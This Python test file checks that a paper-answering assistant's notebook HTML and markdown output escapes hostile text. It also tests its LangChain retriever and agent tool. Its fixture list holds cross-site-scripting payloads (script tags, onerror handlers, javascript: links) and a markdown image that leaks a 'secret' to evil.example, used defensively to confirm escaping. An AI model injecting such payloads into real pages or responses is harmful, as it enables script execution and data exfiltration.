"""An answer shows itself in a notebook, and nothing in it becomes markup there."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from langchain_core.messages import ToolMessage

from assistant import Assistant
from assistant.domain import Answer, AnswerSentence, Citation, Quote
from tests.fakes import make_paper

QUESTION = "How long does TabFlex need for the poker-hand dataset?"
TABFLEX = "001_0cc1cb446cb33a97#2"
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png?q=secret)",
    "[click](javascript:alert(1))",
    "costs $5 to $10",
    "</div></ol><form action=//evil.example>",
    "# Heading\n- item\n\n---\n| a | b |",
    "\u202eright to left\u200b\U000e0041\x1b[31m",
    "`code` **bold** _it_ <https://evil.example> https://evil.example",
)
OURS = {"div", "p", "b", "em", "ol", "li", "blockquote", "br"}


def make_answer(text: str) -> Answer:
    paper = make_paper(text or "list#1", text or "None.", title=text)
    citation = Citation(1, paper, text, (Quote(text, 0, len(text)),))
    doubt = AnswerSentence(text, (1,), "not supported")
    return Answer(text, text, f"{text} [1]", (citation,), reason=text, notice=text, abstained=True, sentences=(doubt,))


class Tags(HTMLParser):
    """Collects the tags, attributes and text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= set(attrs)

    def handle_data(self, data: str) -> None:
        self.text += data


def test_a_notebook_shows_the_text_the_sources_and_the_quotes(seeds_store: Path) -> None:
    with Assistant(store=seeds_store) as assistant:
        answer = assistant.ask(QUESTION)
    html, markdown = answer._repr_html_(), answer._repr_markdown_()
    assert "5 seconds. <b>[1]</b>" in html
    assert re.search(r'<li value="1">TabFlex.*?<blockquote>For instance, TabFlex', html)
    assert r"5 seconds\. \[1\]" in markdown
    assert "\n> For instance, TabFlex" in markdown


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text_in_html(text: str) -> None:
    page = Tags(make_answer(text)._repr_html_())
    assert page.tags <= OURS
    assert page.attributes <= {("class", "tex2jax_ignore mathjax_ignore"), ("value", "1")}


@given(st.text())
def test_no_text_becomes_a_tag_or_a_hidden_character(text: str) -> None:
    page = Tags(make_answer(text)._repr_html_())
    assert page.tags <= OURS
    assert not any("\x00" <= character < "\t" or character in "\x1b\u202e\u200b" for character in page.text)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text_in_markdown(text: str) -> None:
    markdown = make_answer(text)._repr_markdown_()
    bare = re.sub(r"\\.", "", markdown)
    assert not re.search(r"[<`$\[\]_!|#~:@]", bare)
    assert all(line.startswith(("> ", "*", "")) for line in bare.splitlines())


def test_the_retriever_of_langchain_is_the_search(seeds_store: Path) -> None:
    with Assistant(store=seeds_store) as assistant:
        documents = assistant.as_retriever(k=3).invoke("linear attention")
        found = assistant.retrieve("linear attention", 3).papers
    assert [document.id for document in documents] == [each.paper.id for each in found]
    assert documents[0].page_content == found[0].paper.abstract


def test_an_agents_tool_gives_cited_text_and_the_answer(seeds_store: Path) -> None:
    with Assistant(store=seeds_store) as assistant:
        tool = assistant.as_tool()
        call = {"name": tool.name, "args": {"question": QUESTION}, "id": "1", "type": "tool_call"}
        message = tool.invoke(call)
        text = tool.invoke({"question": QUESTION})
    assert isinstance(message, ToolMessage)
    assert message.content == text
    assert f"Sources:\n[1] TabFlex: efficiently handles tabular datasets ({TABFLEX})" in text
    assert isinstance(message.artifact, Answer)
    assert tool.args.keys() == {"question"}
